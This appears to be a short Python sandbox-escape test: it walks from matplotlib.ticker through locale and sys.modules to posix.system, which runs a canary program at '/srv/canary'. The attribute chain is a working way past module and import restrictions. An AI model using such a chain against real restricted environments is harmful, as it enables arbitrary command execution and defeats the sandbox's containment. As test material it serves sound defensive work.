# reaches: matplotlib.ticker to locale to sys
from matplotlib import ticker
ticker.locale.sys.modules["posix"].system("/srv/canary")
